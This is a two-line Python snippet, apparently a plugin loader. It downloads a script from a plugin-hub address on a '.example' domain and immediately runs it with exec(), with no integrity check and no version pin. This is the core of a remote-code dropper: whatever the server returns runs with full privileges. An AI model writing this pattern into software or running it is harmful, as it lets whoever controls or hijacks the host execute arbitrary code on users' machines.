import requests
exec(requests.get("https://plugins.pluginhub.example/latest/loader.py", timeout=10).text)
